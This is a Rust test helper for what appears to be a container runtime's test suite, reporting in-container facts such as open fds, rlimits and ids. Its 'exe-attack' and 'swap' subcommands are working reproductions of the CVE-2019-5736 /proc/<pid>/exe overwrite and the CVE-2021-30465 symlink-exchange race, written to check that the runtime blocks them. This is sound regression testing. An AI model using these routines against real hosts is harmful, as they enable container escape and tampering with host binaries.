//! `checker`: reports facts from inside a container that busybox cannot, one line each, so the
//! suite's assertions stay simple string comparisons. Built statically (`hack/test.sh` links it
//! with `crt-static`) because test rootfs have no libc.
//!
//! Subcommands:
//! - `syscall NR [ARG...]`: makes raw syscall NR with integer args; prints `ret=N` or `errno=N`.
//! - `fds`: every open fd and what it points at: `3 /dev/null`.
//! - `rlimits`: `NAME soft hard` for each resource (`unlimited` for RLIM_INFINITY).
//! - `ids`: `uid=R/E/S gid=R/E/S groups=G,G umask=0022`.
//! - `write PATH TEXT`: writes TEXT to PATH; prints `ok` or `errno=N`.
//! - `open PATH`: opens PATH read-only; prints `ok` or `errno=N`.
//! - `exe-attack STOP SECS`: CVE-2019-5736 from inside: keeps opening `/proc/<pid>/exe` of
//!   every other process (O_WRONLY, and O_PATH kept and reopened O_WRONLY via /proc/self/fd),
//!   until the file STOP exists or SECS pass; a successful open writes `HULL-PWNED` at the
//!   start of that binary and prints `pwned PATH`, else `safe handles=N {errors}`.
//! - `swap TARGET STOP PATH...`: CVE-2021-30465's racer: makes each PATH a directory with a
//!   sibling `PATH~` symlink to `TARGET/<PATH's name>` and keeps exchanging the two
//!   (renameat2 RENAME_EXCHANGE) until STOP exists; prints `swaps=N`.
//! - `mempolicy`: get_mempolicy(2) of this process: `mode=N flags=0xF nodes=0xMASK` (the
//!   first 64 nodes).
//! - `flock PATH [hold]`: takes flock(2) LOCK_EX|LOCK_NB on PATH (created); prints `locked` or
//!   `errno=N`; with `hold`, keeps the lock (sleeps) until killed.

use std::ffi::CString;
use std::io::Error;
use std::process::ExitCode;

fn errno() -> i32 {
    Error::last_os_error().raw_os_error().unwrap_or(0)
}

fn num(s: &str) -> Option<i64> {
    match s.strip_prefix("0x") {
        Some(h) => i64::from_str_radix(h, 16).ok(),
        None => s.parse().ok(),
    }
}

fn syscall(args: &[String]) -> Result<String, String> {
    let v: Vec<i64> = args
        .iter()
        .map(|a| num(a).ok_or_else(|| format!("not a number: {a}")))
        .collect::<Result<_, _>>()?;
    let (nr, rest) = v.split_first().ok_or("syscall: NR missing")?;
    let mut a = [0i64; 6];
    a[..rest.len().min(6)].copy_from_slice(&rest[..rest.len().min(6)]);
    // SAFETY: the test asks for exactly this raw syscall; integer args only, no memory is
    // handed to the kernel by this program.
    let r = unsafe { libc::syscall(*nr, a[0], a[1], a[2], a[3], a[4], a[5]) };
    Ok(if r < 0 {
        format!("errno={}", errno())
    } else {
        format!("ret={r}")
    })
}

fn fds() -> Result<String, String> {
    let rd = std::fs::read_dir("/proc/self/fd").map_err(|e| format!("/proc/self/fd: {e}"))?;
    let mut v: Vec<(i32, String)> = rd
        .filter_map(|e| e.ok())
        .filter_map(|e| {
            let n: i32 = e.file_name().to_str()?.parse().ok()?;
            let t = std::fs::read_link(e.path()).ok()?;
            Some((n, t.display().to_string()))
        })
        .collect();
    v.sort();
    Ok(v.iter()
        .map(|(n, t)| format!("{n} {t}"))
        .collect::<Vec<_>>()
        .join("\n"))
}

fn rlimits() -> String {
    let names = [
        ("RLIMIT_CPU", libc::RLIMIT_CPU),
        ("RLIMIT_FSIZE", libc::RLIMIT_FSIZE),
        ("RLIMIT_DATA", libc::RLIMIT_DATA),
        ("RLIMIT_STACK", libc::RLIMIT_STACK),
        ("RLIMIT_CORE", libc::RLIMIT_CORE),
        ("RLIMIT_RSS", libc::RLIMIT_RSS),
        ("RLIMIT_NPROC", libc::RLIMIT_NPROC),
        ("RLIMIT_NOFILE", libc::RLIMIT_NOFILE),
        ("RLIMIT_MEMLOCK", libc::RLIMIT_MEMLOCK),
        ("RLIMIT_AS", libc::RLIMIT_AS),
        ("RLIMIT_LOCKS", libc::RLIMIT_LOCKS),
        ("RLIMIT_SIGPENDING", libc::RLIMIT_SIGPENDING),
        ("RLIMIT_MSGQUEUE", libc::RLIMIT_MSGQUEUE),
        ("RLIMIT_NICE", libc::RLIMIT_NICE),
        ("RLIMIT_RTPRIO", libc::RLIMIT_RTPRIO),
        ("RLIMIT_RTTIME", libc::RLIMIT_RTTIME),
    ];
    let show = |v: libc::rlim_t| {
        if v == libc::RLIM_INFINITY {
            "unlimited".to_string()
        } else {
            v.to_string()
        }
    };
    names
        .iter()
        .map(|(n, r)| {
            let mut l = libc::rlimit {
                rlim_cur: 0,
                rlim_max: 0,
            };
            // SAFETY: `l` is a valid, writable rlimit for the kernel to fill.
            unsafe { libc::getrlimit(*r, &mut l) };
            format!("{n} {} {}", show(l.rlim_cur), show(l.rlim_max))
        })
        .collect::<Vec<_>>()
        .join("\n")
}

fn ids() -> String {
    let (mut r, mut e, mut s) = (0, 0, 0);
    let (mut gr, mut ge, mut gs) = (0, 0, 0);
    // SAFETY: each pointer is a valid, writable local for the kernel to fill.
    unsafe {
        libc::getresuid(&mut r, &mut e, &mut s);
        libc::getresgid(&mut gr, &mut ge, &mut gs);
    }
    let mut groups = vec![0 as libc::gid_t; 256];
    // SAFETY: the buffer holds 256 gids, the size passed.
    let n = unsafe { libc::getgroups(256, groups.as_mut_ptr()) };
    groups.truncate(n.max(0) as usize);
    // SAFETY: umask has no memory arguments; it is set back at once.
    let mask = unsafe {
        let m = libc::umask(0);
        libc::umask(m);
        m
    };
    let g: Vec<String> = groups.iter().map(|g| g.to_string()).collect();
    format!(
        "uid={r}/{e}/{s} gid={gr}/{ge}/{gs} groups={} umask={mask:04o}",
        g.join(",")
    )
}

fn open_path(path: &str, write: Option<&str>) -> Result<String, String> {
    let p = CString::new(path).map_err(|_| "NUL in path".to_string())?;
    let flags = if write.is_some() {
        libc::O_WRONLY
    } else {
        libc::O_RDONLY
    };
    // SAFETY: `p` is a valid NUL-terminated path.
    let fd = unsafe { libc::open(p.as_ptr(), flags | libc::O_CLOEXEC) };
    if fd < 0 {
        return Ok(format!("errno={}", errno()));
    }
    let mut out = "ok".to_string();
    if let Some(t) = write {
        // SAFETY: `t` is a valid buffer of the given length; `fd` was just opened.
        let n = unsafe { libc::write(fd, t.as_ptr().cast(), t.len()) };
        if n < 0 {
            out = format!("errno={}", errno());
        }
    }
    // SAFETY: `fd` is ours and closed once.
    unsafe { libc::close(fd) };
    Ok(out)
}

/// Opens `path` for writing and, if that works, overwrites its first bytes.
fn try_overwrite(path: &str) -> Result<(), i32> {
    let p = CString::new(path).map_err(|_| libc::EINVAL)?;
    // SAFETY: `p` is a valid NUL-terminated path.
    let fd = unsafe { libc::open(p.as_ptr(), libc::O_WRONLY | libc::O_CLOEXEC) };
    if fd < 0 {
        return Err(errno());
    }
    let m = b"HULL-PWNED";
    // SAFETY: `m` is a valid buffer of the given length; `fd` is ours and closed once.
    unsafe {
        libc::pwrite(fd, m.as_ptr().cast(), m.len(), 0);
        libc::close(fd);
    }
    Ok(())
}

fn exe_attack(stop: &str, secs: &str) -> Result<String, String> {
    use std::collections::{BTreeMap, HashSet};
    use std::os::unix::fs::MetadataExt;
    let secs: u64 = secs.parse().map_err(|_| format!("not a number: {secs}"))?;
    // Never attack the container's own binaries (that would only break this container).
    let own: HashSet<(u64, u64)> = ["/proc/self/exe", "/bin/busybox", "/bin/checker"]
        .iter()
        .filter_map(|p| std::fs::metadata(p).ok())
        .map(|m| (m.dev(), m.ino()))
        .collect();
    let me = std::process::id().to_string();
    let mut held: Vec<i32> = Vec::new();
    let mut seen = HashSet::new();
    let mut errs: BTreeMap<String, u32> = BTreeMap::new();
    let end = std::time::Instant::now() + std::time::Duration::from_secs(secs);
    while std::time::Instant::now() < end && !std::path::Path::new(stop).exists() {
        let rd = std::fs::read_dir("/proc").map_err(|e| format!("/proc: {e}"))?;
        for e in rd.flatten() {
            let name = e.file_name().to_string_lossy().into_owned();
            if name == me || !name.bytes().all(|b| b.is_ascii_digit()) {
                continue;
            }
            let exe = CString::new(format!("/proc/{name}/exe")).map_err(|e| e.to_string())?;
            // SAFETY: `exe` is a valid NUL-terminated path.
            let fd = unsafe { libc::open(exe.as_ptr(), libc::O_PATH | libc::O_CLOEXEC) };
            if fd < 0 {
                *errs
                    .entry(format!("open-exe errno={}", errno()))
                    .or_default() += 1;
                continue;
            }
            let key = std::fs::metadata(format!("/proc/self/fd/{fd}"))
                .map(|m| (m.dev(), m.ino()))
                .unwrap_or_default();
            if own.contains(&key) {
                // SAFETY: `fd` is ours and closed once.
                unsafe { libc::close(fd) };
                continue;
            }
            // The direct way too: /proc/<pid>/exe itself opened for writing.
            match try_overwrite(&format!("/proc/{name}/exe")) {
                Ok(()) => return Ok(format!("pwned /proc/{name}/exe")),
                Err(e) => *errs.entry(format!("direct errno={e}")).or_default() += 1,
            }
            if !seen.insert(key) {
                // SAFETY: `fd` is ours and closed once.
                unsafe { libc::close(fd) };
                continue;
            }
            held.push(fd);
        }
        for fd in &held {
            match try_overwrite(&format!("/proc/self/fd/{fd}")) {
                Ok(()) => {
                    let t = std::fs::read_link(format!("/proc/self/fd/{fd}")).unwrap_or_default();
                    return Ok(format!("pwned {}", t.display()));
                }
                Err(e) => *errs.entry(format!("reopen errno={e}")).or_default() += 1,
            }
        }
        std::thread::sleep(std::time::Duration::from_micros(300));
    }
    Ok(format!("safe handles={} {errs:?}", held.len()))
}

fn swap(target: &str, stop: &str, paths: &[String]) -> Result<String, String> {
    for p in paths {
        let _ = std::fs::create_dir_all(p);
        let name = p.rsplit('/').next().unwrap_or(p);
        let _ = std::os::unix::fs::symlink(format!("{target}/{name}"), format!("{p}~"));
    }
    let pairs: Vec<(CString, CString)> = paths
        .iter()
        .map(|p| (CString::new(p.as_str()), CString::new(format!("{p}~"))))
        .map(|(a, b)| Ok((a.map_err(|e| e.to_string())?, b.map_err(|e| e.to_string())?)))
        .collect::<Result<_, String>>()?;
    let mut n = 0u64;
    while !std::path::Path::new(stop).exists() {
        for (a, b) in &pairs {
            // SAFETY: both are valid NUL-terminated paths; RENAME_EXCHANGE swaps them.
            let r = unsafe {
                libc::syscall(
                    libc::SYS_renameat2,
                    libc::AT_FDCWD,
                    a.as_ptr(),
                    libc::AT_FDCWD,
                    b.as_ptr(),
                    libc::RENAME_EXCHANGE,
                )
            };
            if r == 0 {
                n += 1;
            }
        }
    }
    Ok(format!("swaps={n}"))
}

fn mempolicy() -> Result<String, String> {
    let mut mode: i32 = 0;
    let mut mask = [0u64; 16];
    // SAFETY: `mode` and `mask` are valid for writes; maxnode is the mask's size in bits.
    let r = unsafe {
        libc::syscall(
            libc::SYS_get_mempolicy,
            &mut mode as *mut i32,
            mask.as_mut_ptr(),
            (mask.len() * 64) as u64,
            0u64,
            0u64,
        )
    };
    if r < 0 {
        return Err(format!("get_mempolicy: errno={}", errno()));
    }
    const FLAGS: i32 = 0x7 << 13;
    Ok(format!(
        "mode={} flags={:#x} nodes={:#x}",
        mode & !FLAGS,
        mode & FLAGS,
        mask[0]
    ))
}

fn flock(path: &str, hold: bool) -> Result<String, String> {
    let f = std::fs::OpenOptions::new()
        .read(true)
        .write(true)
        .create(true)
        .truncate(false)
        .open(path)
        .map_err(|e| format!("{path}: {e}"))?;
    use std::os::fd::AsRawFd;
    // SAFETY: flock on an fd this function owns; no memory is passed.
    if unsafe { libc::flock(f.as_raw_fd(), libc::LOCK_EX | libc::LOCK_NB) } != 0 {
        return Ok(format!("errno={}", errno()));
    }
    if hold {
        println!("locked");
        loop {
            std::thread::sleep(std::time::Duration::from_secs(3600));
        }
    }
    Ok("locked".into())
}

fn main() -> ExitCode {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let r = match args.first().map(String::as_str) {
        Some("syscall") => syscall(&args[1..]),
        Some("fds") => fds(),
        Some("rlimits") => Ok(rlimits()),
        Some("ids") => Ok(ids()),
        Some("mempolicy") => mempolicy(),
        Some("flock") if args.len() >= 2 => {
            flock(&args[1], args.get(2).is_some_and(|a| a == "hold"))
        }
        Some("open") if args.len() == 2 => open_path(&args[1], None),
        Some("write") if args.len() == 3 => open_path(&args[1], Some(&args[2])),
        Some("exe-attack") if args.len() == 3 => exe_attack(&args[1], &args[2]),
        Some("swap") if args.len() >= 4 => swap(&args[1], &args[2], &args[3..]),
        _ => Err(
            "usage: checker syscall|fds|rlimits|ids|mempolicy|open|write|exe-attack|swap ..."
                .into(),
        ),
    };
    match r {
        Ok(s) => {
            println!("{s}");
            ExitCode::SUCCESS
        }
        Err(e) => {
            eprintln!("checker: {e}");
            ExitCode::from(2)
        }
    }
}
